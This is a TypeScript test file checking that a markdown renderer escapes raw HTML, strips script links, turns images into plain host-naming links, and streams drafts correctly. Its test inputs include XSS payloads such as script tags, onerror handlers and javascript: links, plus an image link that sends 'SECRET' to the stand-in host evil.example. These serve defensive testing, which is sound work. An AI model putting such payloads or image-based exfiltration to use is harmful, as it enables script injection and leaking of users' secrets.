import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createDraft, renderMarkdown } from "../../../src/web/markdown.ts";

describe("safe HTML", () => {
  it("[WB1] raw HTML is shown as text", () => {
    const html = renderMarkdown("<script>alert(1)</script>\n\n</script><img src=x onerror=alert(1)>\n\n`<b>`");
    expect(html).not.toMatch(/<(script|img|b)/);
    expect(html).toContain("&lt;script&gt;");
  });

  it("[WB1] links that run code lose their target, others open apart", () => {
    expect(renderMarkdown("[x](javascript:alert(1))")).toBe("<p><a>x</a></p>");
    expect(renderMarkdown("[x](data:text/html,hi)")).toBe("<p><a>x</a></p>");
    expect(renderMarkdown("[x](https://example.com)")).toBe(
      '<p><a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a></p>',
    );
  });

  it("[WB2] FM-026 a picture becomes a link that names its host", () => {
    const html = renderMarkdown('![chart](https://evil.example/?q=SECRET "t") ![](//evil.example/x) ![z](javascript:x)');
    expect(html).not.toContain("<img");
    expect(html).toContain(">chart (evil.example)</a>");
    expect(html).toContain(">picture (no address)</a>");
  });

  it("[WB1] tables, task lists and code survive", () => {
    const html = renderMarkdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```js\nlet a = '<';\n```");
    expect(html).toContain("<table>");
    expect(html).toContain('type="checkbox"');
    expect(html).toContain("<code class=\"language-js\">let a = '&lt;';");
  });

  it("[WB1] too long a text stays plain, and quick", () => {
    const html = renderMarkdown("<b>*x* ".repeat(10_000));
    expect(html.startsWith('<pre class="plain">&lt;b&gt;*x*')).toBe(true);
  });

  it("[WB1] a table whose rows would be filled up to megabytes stays plain, and quick", () => {
    const wide = (columns: number, rows: number) => `${"|a".repeat(columns)}\n${"|-".repeat(columns)}\n${"|b\n".repeat(rows)}`;
    expect(renderMarkdown(wide(100, 3_800)).length).toBeLessThan(100_000);
    expect(renderMarkdown(wide(2_000, 1_000)).length).toBeLessThan(100_000);
    expect(renderMarkdown(wide(20, 500))).toContain("<td>b</td>");
  });

  it("[SC4] whatever the text, only known tags come out and no handler or script address", () => {
    const piece = fc.constantFrom(
      "<img src=x onerror=1>",
      "](",
      "![",
      "[",
      "`",
      '"',
      "'",
      "<a href=",
      "javascript:",
      "\n",
      "|",
      "https://a.b/",
      ">",
      "&#x22;",
      "\\",
      "onload=",
      "*",
      "~~",
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string()), { maxLength: 30 }), (pieces) => {
        const html = renderMarkdown(pieces.join(""));
        for (const [tag] of html.matchAll(/<[^>]*>/g)) {
          expect(tag).toMatch(/^<\/?(p|a|em|strong|del|code|pre|ul|ol|li|h[1-6]|blockquote|hr|br|table|thead|tbody|tr|th|td|input)\b/);
          expect(tag.replace(/"[^"]*"/g, '""')).not.toMatch(/\son\w+=|<[^>]*</i);
          expect(tag).not.toMatch(/href="\s*(javascript|data|vbscript):/i);
        }
      }),
      { numRuns: 300 },
    );
  });
});

describe("a growing draft", () => {
  const text = "Intro *a*\n\n1. one\n\n   more of one\n\n2. two\n\n```js\nlet a;\n\nlet b;\n```\n\nThe **end** of it";

  const createOwnDraft = () => createDraft(async (markdown) => renderMarkdown(markdown));

  it("[AG4] shows the same as the whole text at the end, whatever the steps", async () => {
    const draft = createOwnDraft();
    for (let end = 0; end < text.length; end += 3) await draft(text.slice(0, end));
    const plain = (html: string) => html.replace(/<[^>]*>|\s/g, "");
    expect(plain(await draft(text))).toBe(plain(renderMarkdown(text)));
    expect(await draft(text)).toContain("let a;\n\nlet b;");
  });

  it("[AG4] of a long text the last part is shown, from the start of a line", async () => {
    const draft = createOwnDraft();
    const numbers = (html: string) => [...html.matchAll(/<p>line (\d+) /g)].map((match) => Number(match[1]));
    let text = "";
    for (let n = 0; n < 700; n++) {
      text += `line ${n} ${"x".repeat(60)}\n\n`;
      if (n % 50 !== 49) continue;
      const html = await draft(text);
      const shown = numbers(html);
      expect(shown).toEqual(Array.from(shown, (_, i) => n + 1 - shown.length + i));
      expect(shown.length).toBeGreaterThanOrEqual(Math.min(n + 1, 200));
      expect(html.length).toBeLessThan(30_000);
    }
  });

  it("[AG4] starts over when the text is another one", async () => {
    const draft = createOwnDraft();
    await draft("One\n\nTwo\n\nThree");
    expect(await draft("Else")).toBe("<p>Else</p>");
  });
});
